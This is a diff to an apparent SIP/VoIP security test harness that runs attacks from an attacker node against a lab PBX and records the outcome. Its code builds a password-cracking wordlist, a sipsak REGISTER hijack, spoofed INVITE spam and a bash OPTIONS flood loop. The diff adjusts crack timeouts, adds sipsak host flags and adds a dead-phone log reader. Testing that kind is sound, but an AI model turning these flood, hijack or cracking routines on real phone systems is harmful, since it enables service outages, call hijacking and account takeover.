@@ -45,7 +45,8 @@ from topology.plan import ConfigError, Plan, phone_name
 WORDS = ("12345678", "123456789", "password", "password1", "qwerty123", "iloveyou",
          "sunshine", "princess", "football", "welcome1", "letmein1", "admin123", "changeme",
          "trustno1", "baseball", "superman", "michael1", "shadow12", "secret12", "1q2w3e4r")
-TOOL_TIMEOUT_S = 15  # no tool runs longer (timeout -s INT, then KILL)
+TOOL_TIMEOUT_S = 15  # no tool runs longer (timeout -s INT, then KILL) ...
+CRACK_TIMEOUT_S = 8  # ... svcrack less: against a refusing PBX it retries until told to stop
 MAX_IDLE_S = 3  # sipvicious stops after this long without an answer
 FLOOD_ROUNDS = 40  # bursts of the flood ...
 FLOOD_BURST = 20  # ... of this many OPTIONS each ...
@@ -132,15 +133,16 @@ class AttackKind(Kind):
 
     def judge(self, inp: CallInput) -> Verdict:
         sc = inp.sc
-        call, qos = None, []
+        call, qos, died = None, [], {}
         if sc.spec.attack == "flood":
             call = judge_call(inp.plan, inp.subject, inp.spec(), inp.reports, inp.caps,
                               inp.call.seconds)
             qos = self.qos(inp)
+            died = _died(inp)
         outcome = judge_attack(inp.plan, sc.spec.attack, sc.insecure,
                                inp.reports.get("attacker", {}),
                                inp.caps.sip.get(ATTACKER_NODE, []),
-                               _pbx_log(inp.folder, inp.plan), call, qos)
+                               _pbx_log(inp.folder, inp.plan), call, qos, died)
         return outcome.verdict(inp.subject, call)
 
     def qos(self, inp: CallInput) -> list[Direction]:
@@ -192,19 +194,21 @@ class AttackKind(Kind):
         if attack == "hijack":
             msg = files / "register.txt"
             msg.write_text(_register(ext, r1, port, me))
-            return ["sipsak", "-vv", "-f", str(msg), "-s", f"sip:{r1}:{port}"]
+            return ["sipsak", "-vv", "-H", me, "-f", str(msg), "-s", f"sip:{r1}:{port}"]
         if attack == "invite":
             msg = files / "invite.txt"
             msg.write_text(_invite(ext, r1, me, 1))
-            return ["sipsak", "-vv", "--timeout-factor", "4", "-f", str(msg), "-s", uri]
+            return ["sipsak", "-vv", "-H", me, "--timeout-factor", "4", "-f", str(msg),
+                    "-s", uri]
         invites = FLOOD_ROUNDS // FLOOD_INVITE_EVERY
         for i in range(1, invites + 1):
             (files / f"invite-{i:02d}.txt").write_text(_invite(ext, r1, me, i))
         script = (f"for i in $(seq 1 {FLOOD_ROUNDS}); do "
-                  f"sipsak -F -e {FLOOD_BURST} -s {uri} | tail -n 1; "
+                  f"sipsak -F -H {me} -e {FLOOD_BURST} -s {uri} | tail -n 1; "
                   f"if [ $((i % {FLOOD_INVITE_EVERY})) -eq 0 ]; then "
                   f"n=$(printf %02d $((i / {FLOOD_INVITE_EVERY}))); "
-                  f"timeout 2 sipsak --timeout-factor 2 -f {files}/invite-$n.txt -s {uri} "
+                  f"timeout 2 sipsak -H {me} --timeout-factor 2 -f {files}/invite-$n.txt "
+                  f"-s {uri} "
                   "| head -n 1 & fi; "
                   f"sleep {FLOOD_PERIOD_S}; done; wait")
         return ["bash", "-c", script]
@@ -213,10 +217,11 @@ class AttackKind(Kind):
 def _run_tool(host: Any, command: list[str], report: Path, sc: Scenario, plan: Plan) -> None:
     """Run the tool on the attacker host, bounded; keep what it did as data."""
     started = time.time()
-    bounded = ["timeout", "-s", "INT", "-k", "2", str(TOOL_TIMEOUT_S), *command]
+    limit = CRACK_TIMEOUT_S if sc.spec.attack == "crack" else TOOL_TIMEOUT_S
+    bounded = ["timeout", "-s", "INT", "-k", "2", str(limit), *command]
     proc = host.popen(bounded, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
     try:
-        out, err = proc.communicate(timeout=TOOL_TIMEOUT_S + 5)
+        out, err = proc.communicate(timeout=limit + 5)
     except subprocess.TimeoutExpired:
         proc.kill()
         out, err = proc.communicate()
@@ -224,7 +229,7 @@ def _run_tool(host: Any, command: list[str], report: Path, sc: Scenario, plan: P
         "attack": sc.spec.attack, "insecure": sc.insecure, "trunk": sc.trunk,
         "variant": _variant(sc),
         "attacker": plan.servers.attacker, "target_port": target_port(sc),
-        "command": command, "timeout_s": TOOL_TIMEOUT_S, "exit": proc.returncode,
+        "command": command, "timeout_s": limit, "exit": proc.returncode,
         "started": started, "seconds": round(time.time() - started, 3),
         "stdout": out.decode(errors="replace"), "stderr": err.decode(errors="replace"),
     }, indent=2) + "\n")
@@ -252,6 +257,18 @@ def _invite(ext: str, host: str, me: str, n: int) -> str:
             f"Call-ID: atk-invite-{n}@{me}\r\nCSeq: 1 INVITE\r\n"
             f"Contact: <sip:{SPAM_FROM}@{me}:{SIP_PORT}>\r\nMax-Forwards: 70\r\n"
             "Content-Length: 0\r\n\r\n")
+
+
+def _died(inp: CallInput) -> dict[str, str]:
+    """Phones of the call whose agent wrote no report: extension -> its log's last line."""
+    out = {}
+    for role, ext in (("caller", inp.call.caller), ("callee", inp.call.callee)):
+        if role in inp.reports or inp.folder is None:
+            continue
+        log = inp.folder / inp.call.dir / "agents" / f"{role}.log"
+        lines = log.read_text(errors="replace").strip().splitlines() if log.exists() else []
+        out[ext] = lines[-1].split("Traceback")[0].strip() if lines else "(no log)"
+    return out
 
 
 def _pbx_log(folder: Path | None, plan: Plan) -> str:
